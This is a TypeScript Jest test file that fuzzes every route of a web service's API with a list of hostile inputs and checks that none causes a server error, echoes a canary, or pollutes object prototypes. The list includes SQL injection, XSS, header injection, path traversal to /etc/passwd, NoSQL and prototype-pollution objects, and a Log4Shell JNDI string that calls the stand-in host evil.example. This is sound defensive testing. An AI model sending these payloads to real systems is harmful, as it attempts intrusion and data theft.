import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Browser, ORGANIZATION, OWNER, signedInOwner } from './people-bench.js';
import { everyRoute, filled, type JsonSchema, type Route } from './routes.js';
import { type StartedService, startService } from './started-service.js';

const CANARY = 'canary-5521';

/** What people send who look for a way in. */
const HOSTILE: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  ' ',
  `${CANARY}' OR '1'='1`,
  `${CANARY}"; DROP TABLE findings; --`,
  `<script>alert("${CANARY}")</script>`,
  `${CANARY}\r\nset-cookie: a=b`,
  '../../../../etc/passwd',
  '\u0000',
  '\uD800',
  '\u202Egnp.exe',
  '%00%ff%c0%af',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'a'.repeat(100_000),
  '👩‍👩‍👧‍👦'.repeat(1_000),
  [],
  ['a', ['b', ['c']]],
  {},
  { $ne: null },
  { toString: 1, constructor: { prototype: { polluted: true } } },
  JSON.parse('{"__proto__": {"polluted": true}}'),
  nested(500),
];

function nested(depth: number): unknown {
  let inner: unknown = CANARY;
  for (let level = 0; level < depth; level += 1) inner = [inner];
  return inner;
}

let service: StartedService;
let owner: Browser;
let here: string;
let routes: readonly Route[];
beforeAll(async () => {
  service = await startService();
  const signedIn = await signedInOwner(service);
  owner = signedIn.owner;
  here = signedIn.path.split('/')[1] ?? '';
  // Ending the session would end the test; the rest is all tried.
  const ends = new Set([
    '/api/v1/sign-out',
    '/api/v1/me/sessions/end-others',
    '/api/v1/organizations/{organization}/leave',
  ]);
  routes = (await everyRoute()).filter(({ path }) => !ends.has(path));
});
afterAll(async () => service[Symbol.asyncDispose]());

/** Asks, and holds the answer to what every answer must be. */
async function asked(route: Route, url: string, body?: unknown): Promise<number> {
  const answer = await owner.ask(route.method, url, body as object);
  const what = `${route.method} ${route.path} ${JSON.stringify(body)?.slice(0, 200) ?? url.slice(0, 200)}`;
  if (answer.status >= 500) throw new Error(`${answer.status}: ${what}\n${service.log.slice(-2).join('')}`);
  if (answer.status === 401) await signInAgain();
  const type = answer.headers['content-type'];
  // The pages by which a mail is stopped are the only ones, and hold nothing of what was sent.
  const isPage = url.startsWith('/api/v1/unsubscribe/') && answer.status === 200;
  if (isPage) expect(answer.body).not.toContain(CANARY);
  else if (typeof type === 'string') expect(type).toMatch(/^(application\/|text\/event-stream)/u);
  if (answer.status >= 400) expect(JSON.stringify(answer.body)).not.toContain('evil.example');
  return answer.status;
}

/** Somebody who tries a thousand things is signed out by some of them. */
async function signInAgain(): Promise<void> {
  if ((await owner.get('me')).status === 200) return;
  service.clock.now = new Date(service.clock.now.getTime() + 3_600_000);
  await owner.signIn(OWNER);
}

const fieldsOf = (schema: JsonSchema | null) => Object.keys(schema?.properties ?? {});
const urlOf = (route: Route, value = 'nothing') =>
  filled(route.path, (name) => (name === 'organization' ? here : value));

describe('hostile input', () => {
  it('as a whole body makes no route fail', async () => {
    for (const route of routes.filter(({ body }) => body !== null)) {
      for (const value of HOSTILE) await asked(route, urlOf(route), value ?? undefined);
    }
  });

  it('in any field makes no route fail', async () => {
    for (const route of routes) {
      for (const field of fieldsOf(route.body)) {
        for (const value of HOSTILE) await asked(route, urlOf(route), { [field]: value });
      }
    }
  });

  it('in all fields at once makes no route fail', async () => {
    for (const route of routes) {
      for (const value of HOSTILE)
        await asked(
          route,
          urlOf(route),
          Object.fromEntries(fieldsOf(route.body).map((field) => [field, value])),
        );
    }
  });

  it('in the address makes no route fail', async () => {
    const texts = HOSTILE.filter((value) => typeof value === 'string').map((value) =>
      value.slice(0, 4_000).toWellFormed(),
    );
    for (const route of routes) {
      for (const text of texts) {
        await asked(route, urlOf(route, text === '' ? ' ' : text));
        for (const { name } of route.query)
          await asked(route, `${urlOf(route)}?${new URLSearchParams({ [name]: text }).toString()}`);
      }
    }
  });

  it('that is no JSON, or too much of it, is refused', async () => {
    for (const route of routes.filter(({ body }) => body !== null)) {
      const send = async (payload: string, type = 'application/json') => {
        const { statusCode } = await service.app.inject({
          method: route.method,
          url: urlOf(route),
          headers: { ...owner.headers, 'content-type': type },
          payload,
        });
        return statusCode;
      };
      expect(await send('{"a":')).toBeGreaterThanOrEqual(400);
      expect(await send('{"a":')).toBeLessThan(500);
      expect(await send('a=b', 'application/x-www-form-urlencoded')).toBeLessThan(500);
      const deep = 100_000;
      expect(await send('['.repeat(deep) + ']'.repeat(deep))).toBeLessThan(500);
      expect(await send('{"text":'.repeat(deep) + '1' + '}'.repeat(deep))).toBeLessThan(500);
      expect(await send(`"${'a'.repeat(1_100_000)}"`)).toBe(413);
    }
  });

  it('changed nothing: the organization, its owner and the shape of objects are as they were', async () => {
    await signInAgain();
    expect((await owner.get(`organizations/${here}`)).body).toMatchObject({
      name: ORGANIZATION,
      role: 'owner',
    });
    expect((await owner.get(`organizations/${here}/people`)).body.items).toHaveLength(1);
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
    expect(service.log.join('')).not.toContain(CANARY);
  });
});
